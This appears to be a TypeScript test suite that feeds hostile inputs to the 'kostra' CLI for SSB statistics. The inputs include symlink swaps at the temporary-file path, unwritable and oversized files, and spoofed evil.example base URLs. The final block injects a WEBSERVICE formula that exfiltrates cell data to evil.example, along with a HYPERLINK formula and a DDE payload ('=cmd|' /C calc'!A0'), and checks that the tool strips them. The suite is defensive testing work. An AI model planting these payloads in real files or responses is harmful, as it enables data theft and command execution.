/**
 * Hostile-input corpus, area "cli": the command line's files, pipes, limits and flags,
 * tried as an attacker or an unlucky user would. Every case runs the built command in a
 * child process and states the expected exit code (README: 0 success, 2 bad input or a
 * file that cannot be read or written, 3 SSB could not deliver, 130 cancelled) and the
 * words of its message; after every case each file the user had is byte-for-byte as it
 * was, no temporary file is left, and "uventet feil" (exit 1) never appears. Cases that
 * must fail before any work also show that SSB (the local PxWebApi server) was not asked.
 */
import { constants, chmodSync, chownSync, closeSync, ftruncateSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { execFileSync } from "node:child_process";
import { dirname, join } from "node:path";
import { readTableMetadata } from "../../../src/sources/ssb/metadata";
import { commandWorld, kostra, startKostra, type KostraOptions, type KostraRun } from "../../support/kostra-process";
import { CATALOG_TABLES, catalogServerForSuite } from "../../support/catalog-recording";
import type { LoggedRequest } from "../../support/pxweb-server";


const world = commandWorld("kostra-hostile-cli-");

const PROFILE = ["--sector", "plan-miljo-kultur", "--municipality", "0219", "--year", "2017"];
const isRoot = process.getuid?.() === 0;
/** Permissions do not stop root: the read-only cases run as "nobody" then. */
const asUnprivileged: KostraOptions = isRoot ? { uid: 65534, gid: 65534 } : {};

/** A folder of the user's files: earlier outputs and an unrelated file a link could aim at. */
interface Workspace {
  dir: string;
  json: string;
  xlsx: string;
  victim: string;
  readonly: string;
}

function workspace(): Workspace {
  const dir = world.folder();
  const w = { dir, json: join(dir, "kostra.json"), xlsx: join(dir, "rapport.xlsx"), victim: join(dir, "budsjett.txt"), readonly: join(dir, "readonly") };
  writeFileSync(w.json, '{"earlier":"fetch file"}\n');
  writeFileSync(w.xlsx, "earlier report bytes\n");
  writeFileSync(w.victim, "the user's budget: must never be overwritten\n");
  mkdirSync(w.readonly);
  writeFileSync(join(w.readonly, "kostra.json"), "earlier file in a read-only folder\n");
  chmodSync(w.readonly, 0o555);
  return w;
}

/** An earlier file `name` with `text` and `fileMode`, in the folder `sub` of the workspace with `folderMode`. */
function earlierFile(w: Workspace, sub: string, folderMode: number, name: string, text: string, fileMode: number): string {
  const folder = join(w.dir, sub);
  mkdirSync(folder, { recursive: true });
  chmodSync(folder, folderMode);
  const file = join(folder, name);
  writeFileSync(file, text);
  chmodSync(file, fileMode);
  return file;
}

/** An earlier `name`, read-only (0444), in a folder anyone may write (so only the file's own mode stops the write). */
const readOnlyFile = (w: Workspace, name: string) => earlierFile(w, "open", 0o777, name, `earlier ${name}, kept read-only on purpose\n`, 0o444);

/**
 * An earlier `name` that anyone may write (0666) but that belongs to root, in a shared
 * folder with the sticky bit (1777, as /tmp): only its owner may rename over it.
 */
const othersInSharedFolder = (w: Workspace, name: string) => earlierFile(w, "shared", 0o1777, name, `earlier ${name}, someone else's\n`, 0o666);

/** Every regular file below `dir` with its content (a huge one by its size). */
function snapshot(dir: string): Map<string, string> {
  const files = new Map<string, string>();
  for (const name of readdirSync(dir, { recursive: true }) as string[]) {
    const path = join(dir, name);
    const stats = statSync(path, { throwIfNoEntry: false });
    if (stats?.isFile()) files.set(name, stats.size > 10_000_000 ? `${stats.size} bytes` : readFileSync(path, "latin1"));
  }
  return files;
}

/** A pipe whose reading end is already closed: the first write to it fails with EPIPE. */
function pipeWithoutReader(dir: string): number {
  const fifo = join(dir, "pipe");
  execFileSync("mkfifo", [fifo]);
  const reader = openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK);
  const writer = openSync(fifo, constants.O_WRONLY);
  closeSync(reader);
  return writer;
}

interface Case {
  /** What is tried. */
  name: string;
  args: (w: Workspace) => string[];
  code: number;
  /** Words the message on standard error must contain. */
  words: RegExp;
  /** The command must fail before it contacts SSB. */
  noRequests?: boolean;
  options?: (w: Workspace) => KostraOptions;
  /** Files the case is allowed to change (relative to the workspace). */
  changes?: string[];
}

const fetchArgs = (out: string, ...extra: string[]) => ["fetch", "--sector", "plan-miljo-kultur", "--years", "2017", "--municipality", "0219", "--base-url", world.server.baseUrl, "--no-cache", ...extra, "--out", out];
const reportArgs = (out: string, ...extra: string[]) => ["report", ...PROFILE, ...extra, "--out", out];

const CASES: Case[] = [
  // --out checked before any work (fetch: before SSB's quota is spent)
  { name: "fetch --out in a missing folder", args: (w) => fetchArgs(join(w.dir, "nope", "kostra.json")), code: 2, words: /mappen .*nope.* finnes ikke/, noRequests: true },
  { name: "fetch --out in a read-only folder", args: (w) => fetchArgs(join(w.readonly, "kostra.json")), code: 2, words: /har ikke lov til å skrive i mappen .*readonly/, noRequests: true, options: () => asUnprivileged },
  { name: "fetch --out that is a folder", args: (w) => (mkdirSync(join(w.dir, "sub.json")), fetchArgs(join(w.dir, "sub.json"))), code: 2, words: /sub\.json er en mappe, ikke en fil/, noRequests: true },
  { name: "fetch --out with the wrong extension", args: (w) => fetchArgs(join(w.dir, "kostra.csv")), code: 2, words: /--out må være en \.json-fil/, noRequests: true },
  { name: "fetch --out in a folder that is a file", args: (w) => fetchArgs(join(w.victim, "kostra.json")), code: 2, words: /budsjett\.txt er ikke en mappe/, noRequests: true },
  { name: "report --out in a missing folder", args: (w) => reportArgs(join(w.dir, "nope", "r.xlsx")), code: 2, words: /mappen .*nope.* finnes ikke/ },
  { name: "report --out in a read-only folder", args: (w) => reportArgs(join(w.readonly, "r.xlsx")), code: 2, words: /har ikke lov til å skrive i mappen/, options: () => asUnprivileged },
  { name: "report --out that is a folder", args: (w) => (mkdirSync(join(w.dir, "sub.xlsx")), reportArgs(join(w.dir, "sub.xlsx"))), code: 2, words: /sub\.xlsx er en mappe, ikke en fil/ },
  { name: "report --out with the wrong extension", args: (w) => reportArgs(w.json), code: 2, words: /--out må være en \.xlsx-fil/ },
  { name: "report --out that is a FIFO", args: (w) => (execFileSync("mkfifo", [join(w.dir, "fifo.xlsx")]), reportArgs(join(w.dir, "fifo.xlsx"))), code: 2, words: /fifo\.xlsx finnes og er ikke en vanlig fil/ },
  // the file system fails mid-write
  {
    name: "report when the file may not grow (EFBIG, as a full disk)",
    args: (w) => reportArgs(w.xlsx),
    code: 2,
    words: /rapport\.xlsx ble større enn systemet tillater en fil å være; en tidligere fil er urørt/,
    options: () => ({ shellPrefix: "ulimit -f 8" }),
  },
  // flags with limits
  ...["0", "601", "1e9", "abc", "-5", "Infinity", "", "0x10"].map((t): Case => ({
    name: `fetch --timeout=${JSON.stringify(t)}`,
    args: (w) => fetchArgs(w.json, `--timeout=${t}`),
    code: 2,
    words: /--timeout må være et antall sekunder fra 1 til 600/,
    noRequests: true,
  })),
  { name: "fetch --base-url over plain http to another host", args: (w) => [...fetchArgs(w.json), "--base-url", "http://evil.example/api/pxwebapi/v2"], code: 2, words: /--base-url: Adressen .*må begynne med https:\/\//, noRequests: true },
  { name: "fetch --base-url with a user name that looks like SSB", args: (w) => [...fetchArgs(w.json), "--base-url", "https://data.ssb.no@evil.example/"], code: 2, words: /--base-url: Adressen .*brukernavn eller passord/, noRequests: true },
  { name: "fetch --klass-url with a query", args: (w) => fetchArgs(w.json, "--klass-url", "https://evil.example/klass?x=1"), code: 2, words: /--klass-url: Adressen .*\? eller #/, noRequests: true },
  { name: "catalog --live --base-url not https", args: () => ["catalog", "--live", "--base-url", "http://evil.example/"], code: 2, words: /--base-url: Adressen/, noRequests: true },
  { name: "catalog --live --record into a file", args: (w) => ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", w.victim], code: 2, words: /budsjett\.txt er ikke en mappe/, noRequests: true },
  {
    name: "catalog --live --record where a table's file is a folder",
    args: (w) => (mkdirSync(join(w.dir, "rec", "12362.json"), { recursive: true }), ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", join(w.dir, "rec")]),
    code: 2,
    words: /12362\.json er en mappe, ikke en fil/,
    noRequests: true,
  },
  // an existing file the user may not change: refused before any work (as the shell's `>` refuses it)
  {
    name: "fetch --out a read-only (0444) file",
    args: (w) => fetchArgs(readOnlyFile(w, "kostra.json")),
    code: 2,
    words: /har ikke lov til å endre .*kostra\.json \(filen er skrivebeskyttet eller tilhører en annen\)/,
    noRequests: true,
    options: () => asUnprivileged,
  },
  {
    name: "report --out a read-only (0444) file",
    args: (w) => reportArgs(readOnlyFile(w, "rapport.xlsx")),
    code: 2,
    words: /har ikke lov til å endre .*rapport\.xlsx \(filen er skrivebeskyttet eller tilhører en annen\)/,
    options: () => asUnprivileged,
  },
  {
    name: "catalog --live --record over a read-only table file",
    args: (w) => ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", dirname(readOnlyFile(w, "12362.json"))],
    code: 2,
    words: /har ikke lov til å endre .*12362\.json/,
    noRequests: true,
    options: () => asUnprivileged,
  },
  // someone else's file in a shared sticky folder: writable, but the system refuses the rename (only as root can the test make such a file)
  ...(isRoot
    ? [
        {
          name: "fetch --out someone else's writable file in a shared sticky folder (as /tmp)",
          args: (w: Workspace) => fetchArgs(othersInSharedFolder(w, "kostra.json")),
          code: 2,
          words: /har ikke lov til å endre .*shared\/kostra\.json/,
          noRequests: true,
          options: () => asUnprivileged,
        },
        {
          name: "catalog --live --record in a shared sticky folder where one table's file is someone else's",
          args: (w: Workspace) => {
            const folder = dirname(othersInSharedFolder(w, "12362.json"));
            // Two earlier files of the user's own, before 12362 in the order they are written.
            for (const t of ["07459", "11814"]) {
              writeFileSync(join(folder, `${t}.json`), `earlier ${t}\n`);
              chownSync(join(folder, `${t}.json`), 65534, 65534);
            }
            return ["catalog", "--live", "--base-url", world.server.baseUrl, "--record", folder];
          },
          code: 2,
          words: /har ikke lov til å endre .*12362\.json/,
          noRequests: true,
          options: () => asUnprivileged,
        },
      ]
    : []),
  // a name as long as a file name may be (255 bytes): the temporary name must fit too
  { name: "report --out with a 250-character name", args: (w) => reportArgs(join(w.dir, `${"r".repeat(245)}.xlsx`)), code: 0, words: /skrev .*rrrr\.xlsx/ },
  { name: "report --out with a 255-byte name in æøå", args: (w) => reportArgs(join(w.dir, `${"æ".repeat(125)}.xlsx`)), code: 0, words: /skrev .*ææææ\.xlsx/ },
  // inputs that are not regular files, or too large
  { name: "profile --input /dev/zero", args: () => ["profile", ...PROFILE, "--input", "/dev/zero"], code: 2, words: /\/dev\/zero er ikke en vanlig fil/, options: () => ({ timeoutMs: 30_000 }) },
  {
    name: "profile --input a FIFO nobody writes to",
    args: (w) => (execFileSync("mkfifo", [join(w.dir, "data.csv")]), ["profile", ...PROFILE, "--input", join(w.dir, "data.csv")]),
    code: 2,
    words: /data\.csv er ikke en vanlig fil \(men en FIFO/,
    options: () => ({ timeoutMs: 30_000 }),
  },
  {
    name: "report --input a 600 MB file",
    args: (w) => {
      const big = join(w.dir, "big.json");
      const fd = openSync(big, "w");
      ftruncateSync(fd, 600 * 1024 * 1024);
      closeSync(fd);
      return reportArgs(w.xlsx, "--input", big);
    },
    code: 2,
    words: /big\.json er for stor: 600 MB \(grensen er 100 MB\)/,
    changes: ["big.json"],
  },
  { name: "profile --input a folder", args: (w) => ["profile", ...PROFILE, "--input", w.dir], code: 2, words: /er en mappe, ikke en fil/ },
  { name: "catalog --metadata /dev/zero", args: () => ["catalog", "--metadata", "/dev/zero"], code: 2, words: /\/dev\/zero er ikke en vanlig fil/, options: () => ({ timeoutMs: 30_000 }) },
  // output to a reader that has gone, or a full disk
  { name: "templates into a pipe nobody reads (| head -1)", args: () => ["templates"], code: 0, words: /^$/, options: (w) => ({ stdout: pipeWithoutReader(w.dir) }) },
  { name: "profile --format json into a pipe nobody reads", args: () => ["profile", ...PROFILE, "--format", "json"], code: 0, words: /syntetiske/, options: (w) => ({ stdout: pipeWithoutReader(w.dir) }) },
  { name: "templates > /dev/full", args: () => ["templates"], code: 2, words: /kunne ikke skrive utdata .*ENOSPC/, options: () => ({ stdout: openSync("/dev/full", "w") }) },
];

describe("hostile: the command line's files, pipes and flags", () => {
  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_, c) => {
    const w = workspace();
    const args = c.args(w);
    const before = snapshot(w.dir);
    const options = c.options?.(w) ?? {};
    const requests = world.server.requests.length;
    const r: KostraRun = await kostra(args, options);
    if (options.stdout !== undefined) closeSync(options.stdout);
    expect({ code: r.code, err: r.err }).toEqual({ code: c.code, err: expect.stringMatching(c.words) });
    expect(r.err).not.toMatch(/uventet feil|\bat .*\.js:\d+|EPIPE/);
    // One line says what is wrong (a notice such as "Eksempeldata (syntetiske)" may come before it).
    if (c.code === 2) expect(r.err.split("\n").filter((l) => l.startsWith("kostra:"))).toHaveLength(1);
    if (c.noRequests) expect(world.server.requests.length).toBe(requests);
    const after = snapshot(w.dir);
    for (const [name, content] of before) if (!c.changes?.includes(name)) expect([name, after.get(name)]).toEqual([name, content]);
    expect([...after.keys()].filter((f) => f.endsWith(".tmp"))).toEqual([]);
  });
});

describe("hostile: a link planted where the old temporary file went (OUT.<pid>.tmp)", () => {
  it.each([
    ["fetch", (w: Workspace) => fetchArgs(w.json)],
    ["report", (w: Workspace) => reportArgs(w.xlsx)],
  ] as const)("kostra %s writes its file and never through the link", async (_, args) => {
    const w = workspace();
    const release = join(w.dir, "release");
    const run = startKostra(args(w), { env: { KOSTRA_HOLD_AT: "loaded", KOSTRA_HOLD_UNTIL: release }, timeoutMs: 90_000 });
    await run.stderrMatches(/holding at loaded/);
    const out = args(w).at(-1)!;
    symlinkSync(w.victim, `${out}.${run.child.pid}.tmp`);
    writeFileSync(release, "");
    const r = await run.done;
    expect(r.code).toBe(0);
    expect(readFileSync(w.victim, "utf8")).toBe("the user's budget: must never be overwritten\n");
    expect(readFileSync(out, "latin1")).not.toMatch(/^earlier/);
  });
});

describe("hostile: a replaced --out keeps its permissions", () => {
  it.each([
    ["report", "0600", 0o600, (w: Workspace) => reportArgs(w.xlsx)],
    ["report", "0640", 0o640, (w: Workspace) => reportArgs(w.xlsx)],
    ["fetch", "0600", 0o600, (w: Workspace) => fetchArgs(w.json)],
  ] as const)("kostra %s over a %s file writes the new file with the same mode", async (_, __, mode, args) => {
    const w = workspace();
    const out = args(w).at(-1)!;
    chmodSync(out, mode);
    const r = await kostra(args(w));
    expect(r.code).toBe(0);
    expect(readFileSync(out, "latin1")).not.toMatch(/^earlier/);
    expect(statSync(out).mode & 0o777).toBe(mode);
    expect(readdirSync(w.dir).filter((f) => f.endsWith(".tmp"))).toEqual([]);
  });
});

/**
 * `kostra catalog --live --record DIR`: the folder holds an earlier recording of every
 * catalog table. Whatever happens during the run — Ctrl+C while SSB answers the 13th
 * table, a proxy's login page instead of it — the folder is byte-for-byte as it was
 * (README: "a cancelled run writes nothing"); and what is recorded is only what the
 * metadata schema checked, never fields a proxy added.
 */
describe("hostile: kostra catalog --live --record is all or nothing", () => {
  const catalogServer = catalogServerForSuite();
  const TABLES = CATALOG_TABLES;
  const METADATA_FIXTURES = join(__dirname, "..", "..", "fixtures", "ssb", "metadata");

  /** A record folder holding an earlier recording of every table (the shipped fixtures). */
  function earlierRecording(): string {
    const dir = join(world.folder(), "metadata");
    mkdirSync(dir);
    for (const t of TABLES) writeFileSync(join(dir, `${t}.json`), readFileSync(join(METADATA_FIXTURES, `${t}.json`)));
    return dir;
  }
  const record = (dir: string) => ["catalog", "--live", "--base-url", catalogServer().baseUrl, "--record", dir, "--format", "json"];
  const asksFor = (table: string) => (q: LoggedRequest) => q.path === `/tables/${table}/metadata`;

  it("(the catalog's tables) 12362 comes after a dozen others, so a stop there is part-way", () => {
    expect(TABLES.indexOf("12362")).toBeGreaterThan(10);
    expect(TABLES.length).toBeGreaterThan(TABLES.indexOf("12362") + 2);
  });

  it("Ctrl+C while SSB answers table 12362: exit 130, every earlier file as it was, no temporary file", async () => {
    const dir = earlierRecording();
    const before = snapshot(dir);
    catalogServer().delayNext(1, 60_000, asksFor("12362"));
    const from = catalogServer().requests.length;
    const run = startKostra(record(dir), { timeoutMs: 90_000 });
    while (!catalogServer().requests.slice(from).some(asksFor("12362"))) await new Promise((r) => setTimeout(r, 20));
    run.child.kill("SIGINT");
    const r = await run.done;
    expect(r.code).toBe(130);
    expect(r.err).toMatch(/kostra: .*avbrutt/i);
    expect(r.out).toBe("");
    expect(snapshot(dir)).toEqual(before);
  });

  it("a proxy's login page instead of table 12362: exit 3, every earlier file as it was", async () => {
    const dir = earlierRecording();
    const before = snapshot(dir);
    catalogServer().hostileNext(1, { kind: "html-200" }, asksFor("12362"));
    const r = await kostra(record(dir), { timeoutMs: 90_000 });
    expect(r.code).toBe(3);
    expect(r.err).not.toMatch(/uventet feil/);
    expect(snapshot(dir)).toEqual(before);
  });

  it("an answer that passes the schema but carries a proxy's additions: only the checked metadata is recorded", async () => {
    const dir = earlierRecording();
    const url = `${catalogServer().baseUrl}/tables/12362/metadata?lang=no&outputFormat=json-stat2`;
    const genuine = (await (await fetch(url)).json()) as Record<string, unknown> & { dimension: Record<string, Record<string, unknown>>; note?: unknown[] };
    const [firstDimension] = Object.keys(genuine.dimension);
    const hostile = {
      ...genuine,
      formula: 'WEBSERVICE("http://evil.example/?"&A2)',
      note: [...(genuine.note ?? []), { formula: 'HYPERLINK("http://evil.example/")' }, "a note with a forbidden \uFFFE character"],
      dimension: { ...genuine.dimension, [firstDimension]: { ...genuine.dimension[firstDimension], link: { href: "http://evil.example/" } } },
      extension: { ...(genuine.extension as object), proxy: { injected: "=cmd|' /C calc'!A0" }, kostraBenchmark: { provenance: "reconstructed", recordedFrom: "http://evil.example/" } },
    };
    catalogServer().failNext(1, { status: 200, body: JSON.stringify(hostile), contentType: "application/json; charset=utf-8" }, asksFor("12362"));
    const r = await kostra(record(dir), { timeoutMs: 90_000 });
    expect([r.code, r.err]).toEqual([0, expect.not.stringMatching(/uventet feil/)]);
    const text = readFileSync(join(dir, "12362.json"), "utf8");
    expect(text).not.toMatch(/evil\.example|formula|WEBSERVICE|HYPERLINK|injected|"link"|\uFFFE/i);
    const saved = JSON.parse(text) as { extension: Record<string, unknown>; note: unknown[] };
    expect(Object.keys(saved.extension).sort()).toEqual(["kostraBenchmark", "px"]);
    expect(saved.extension.kostraBenchmark).toEqual({ provenance: "recorded", recordedFrom: `${catalogServer().baseUrl}/tables/12362/metadata?lang=no`, recordedAt: expect.any(String) });
    expect(saved.note.every((n) => typeof n === "string")).toBe(true);
    expect(saved.note).toContain("a note with a forbidden \uFFFD character");
    // What was recorded is what the schema made of the answer: read back, the same metadata.
    expect(readTableMetadata(saved, "recorded")).toEqual(readTableMetadata(hostile, "answer"));
    expect(readTableMetadata(saved, "recorded").dimensions.length).toBeGreaterThan(2);
    // And every other table was recorded from the same run.
    expect(readdirSync(dir).sort()).toEqual(TABLES.map((t) => `${t}.json`));
    expect(readdirSync(dir).every((f) => readFileSync(join(dir, f), "utf8") !== readFileSync(join(METADATA_FIXTURES, f), "utf8"))).toBe(true);
  });
});
